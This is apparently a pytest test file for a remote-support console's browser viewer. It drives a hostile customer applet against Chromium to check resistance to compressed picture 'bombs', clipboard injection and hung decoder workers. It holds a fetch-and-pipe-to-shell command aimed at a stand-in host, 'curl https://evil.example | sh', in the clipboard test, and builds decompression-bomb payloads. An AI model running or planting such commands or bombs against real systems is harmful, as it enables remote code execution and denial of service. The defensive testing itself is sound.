"""A customer's program that keeps no rule, against a real console and a real Chromium."""

import asyncio
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from functools import cache
from pathlib import Path

import psutil
import pytest
import zstandard
from playwright.async_api import Browser, Page, expect

from codec.picture.geometry import Grid
from codec.picture.packet import WINDOW_LOG, PacketHeader, bitmap_bytes
from codec.picture.tiles import LOSSY, PLAIN
from codec.wire.access import Access
from codec.wire.messages import (
    Answered,
    Ask,
    Asking,
    ClipboardText,
    Display,
    Displays,
    Granted,
    Message,
    Picture,
    Refresh,
    Shown,
    Watch,
)
from tests.support.consoles import console_page, make_pin, open_chat, running_console
from tests.support.hostile_applets import PAGE, HostileApplet, customers, hostile_applet
from tests.support.packets import every_kind
from tests.support.relays import running_relay
from tests.support.staff import BOB, make_technician
from tests.support.waiting import becomes_true

LARGEST = Display(0, "wall", 0, 0, 7680, 4320)
SMALL = Display(1, "screen", 0, 0, 64, 48)
VIEW = frozenset({Access.VIEW})
BOMBS = 60
ANSWERS_IN_SECONDS = 1.0
RENDERER_BYTES = 1_000_000_000


@cache
def bomb(kind: int) -> bytes:
    """A whole picture of 7680×4320 in some three kilobytes: 100 MB of pixels one by one, or of coefficients."""
    grid = Grid(LARGEST.width, LARGEST.height)
    tiles = bytes(grid.tiles * 768)
    if kind == LOSSY:
        tiles = bytes([8]) + b"\xff" * (3 * grid.tiles) + bytes(3 * grid.tiles) + b"\1" * (255 * 3 * grid.tiles)
    raw = bytes([0]) + b"\xff" * bitmap_bytes(grid) + bytes([kind]) * grid.tiles + tiles
    compressor = zstandard.ZstdCompressor(
        compression_params=zstandard.ZstdCompressionParameters.from_level(3, window_log=WINDOW_LOG)
    ).compressobj()
    packed = compressor.compress(raw) + compressor.flush(zstandard.COMPRESSOBJ_FLUSH_BLOCK)
    return PacketHeader(True, grid, len(raw)).pack() + packed


@asynccontextmanager
async def hostile(
    browser: Browser,
    folder: Path,
    without: tuple[str, ...] = (),
    before: str = "",
    name: str = "Mallory",
    page_with: tuple[str, ...] | None = None,
) -> AsyncIterator[tuple[Page, HostileApplet]]:
    """A page with a session whose applet is the test's own, or says that it is a customer's page with such means."""
    async with running_relay(folder) as relay:
        await make_technician(relay.settings, without)
        with running_console(relay.url) as console:
            async with (
                console_page(browser, console.link, email=BOB, before=before) as page,
                hostile_applet(relay.url, (await make_pin(page, name)).replace(" ", ""), page_with) as applet,
            ):
                await applet.connected()
                yield page, applet


async def watched(page: Page, applet: HostileApplet, *displays: Display) -> None:
    """The technician asks to view, and looks at the first of these."""
    await page.get_by_role("button", name="Request viewing").click(timeout=20_000)
    asked = await applet.hear(Ask)
    for message in (
        Asking(asked.number),
        Granted(VIEW),
        Answered(asked.number, True),
        Displays(list(displays)),
    ):
        applet.say(message)
    await applet.hear(Watch, lambda each: each.display == displays[0].id)


def largest_renderer() -> int:
    """Return the bytes of the largest page process of this test's browser."""
    children = psutil.Process().children(recursive=True)
    sizes = [0]
    for child in children:
        try:
            if "--type=renderer" in child.cmdline():
                sizes.append(child.memory_info().rss)
        except psutil.NoSuchProcess:
            continue
    return max(sizes)


@pytest.mark.parametrize(("kind", "page_with"), [(PLAIN, None), (LOSSY, None), (LOSSY, PAGE)])
async def test_f11_sixty_bombs_leave_the_page_answering_and_its_memory_small(
    browser: Browser, tmp_path: Path, kind: int, page_with: tuple[str, ...] | None
) -> None:
    assert len(bomb(kind)) < 20_000
    async with hostile(browser, tmp_path, page_with=page_with) as (page, applet):
        await watched(page, applet, LARGEST, SMALL)
        slowest, largest = 0.0, 0
        for number in range(BOMBS):
            applet.say(Picture(0, number, bomb(kind)))
        until = time.monotonic() + 12
        while time.monotonic() < until:
            began = time.monotonic()
            await page.evaluate("new Promise((done) => setTimeout(done))")
            slowest = max(slowest, time.monotonic() - began)
            largest = max(largest, largest_renderer())
            for asked in [each for each in applet.heard if isinstance(each, Refresh)]:
                applet.heard.remove(asked)
                number += 1
                applet.say(Picture(0, number, bomb(kind)))
            await asyncio.sleep(0.02)
        print(f"slowest answer {slowest:.2f} s, largest renderer {largest / 1e6:.0f} MB")
        assert slowest < ANSWERS_IN_SECONDS
        assert largest < RENDERER_BYTES
        stopped = await page.get_by_text("The screen is no longer shown").count()
        assert stopped or [each for each in applet.heard if isinstance(each, Shown)], "this proves nothing"


async def test_f12_the_technicians_clipboard_is_neither_written_nor_read(browser: Browser, tmp_path: Path) -> None:
    async with hostile(browser, tmp_path, ("clipboard_sync",)) as (page, applet):
        await page.evaluate("navigator.clipboard.writeText('my own')")
        applet.say(Granted(frozenset({Access.VIEW, Access.CLIPBOARD})))
        applet.say(Displays([SMALL]))
        applet.say(ClipboardText("curl https://evil.example | sh"))
        await watched(page, applet, SMALL)
        applet.say(Granted(frozenset({Access.VIEW, Access.CLIPBOARD})))
        applet.say(Picture(SMALL.id, 0, every_kind(64, 48, 1, 1)[0]))
        applet.say(ClipboardText("curl https://evil.example | sh"))
        await applet.hear(Shown)
        await page.evaluate("navigator.clipboard.writeText('hunter2-from-the-password-manager')")
        await page.evaluate("dispatchEvent(new Event('copy')); dispatchEvent(new Event('focus'))")
        await open_chat(page)
        await page.get_by_label("Message to").fill("hello")
        await page.keyboard.press("Enter")
        await applet.hear(Message, lambda each: getattr(each, "text", "") == "hello")  # all before it has arrived
        assert await page.evaluate("navigator.clipboard.readText()") == "hunter2-from-the-password-manager"
        assert not [each for each in applet.heard if isinstance(each, ClipboardText)]
        await expect(page.get_by_role("button", name="clipboard")).to_have_count(0)


HANGS = """const ms = setInterval; globalThis.setInterval = (work, each) => ms(work, each / 10);
    globalThis.workers = []; globalThis.hangs = false;
    const Native = Worker;
    globalThis.Worker = class extends Native {
        constructor(...given) { super(...given); workers.push(this); this.ended = false; }
        postMessage(...given) { if (!hangs || !Array.isArray(given[0])) super.postMessage(...given); }
        terminate() { this.ended = true; super.terminate(); }
    };"""


@customers
async def test_f11_pictures_that_take_too_long_are_ended_once_asked_again_and_then_given_up(
    browser: Browser, tmp_path: Path, page_with: tuple[str, ...] | None
) -> None:
    """A worker that does not answer stands for any picture that a decoder hangs on."""
    key = every_kind(64, 48, 1, 1)[0]
    async with hostile(browser, tmp_path, before=HANGS, page_with=page_with) as (page, applet):
        await watched(page, applet, SMALL)
        applet.say(Picture(SMALL.id, 0, key))
        await applet.hear(Shown)
        await page.evaluate("hangs = true")
        applet.say(Picture(SMALL.id, 1, key))
        await applet.hear(Refresh)
        assert await page.evaluate("workers.map((each) => each.ended)") == [True]
        applet.say(Picture(SMALL.id, 2, key))
        await expect(page.get_by_text("The screen is no longer shown")).to_be_visible()
        await applet.hear(Watch, lambda each: each.display is None)
        assert await page.evaluate("workers.map((each) => each.ended)") == [True, True]
        await page.evaluate("hangs = false")
        await page.get_by_role("button", name="Show the screen again").click()
        await applet.hear(Watch, lambda each: each.display == SMALL.id)
        applet.say(Picture(SMALL.id, 3, key))
        await applet.hear(Shown, lambda each: each.number == 3)

        async def is_painted() -> bool:
            return bool(await page.evaluate("document.querySelector('canvas').width") == SMALL.width)

        await becomes_true(is_painted)


async def test_a_worker_that_fails_is_replaced(browser: Browser, tmp_path: Path) -> None:
    """Memory that is not to be had throws in the middle of a picture."""
    key = every_kind(64, 48, 1, 1)[0]
    async with hostile(browser, tmp_path, before=HANGS) as (page, applet):
        await watched(page, applet, SMALL)
        applet.say(Picture(SMALL.id, 0, key))
        await applet.hear(Shown)
        await page.evaluate("workers[0].dispatchEvent(new ErrorEvent('error', { cancelable: true }))")
        applet.say(Picture(SMALL.id, 1, key))
        await applet.hear(Shown, lambda each: each.number == 1)
        assert await page.evaluate("workers.map((each) => each.ended)") == [True, False]
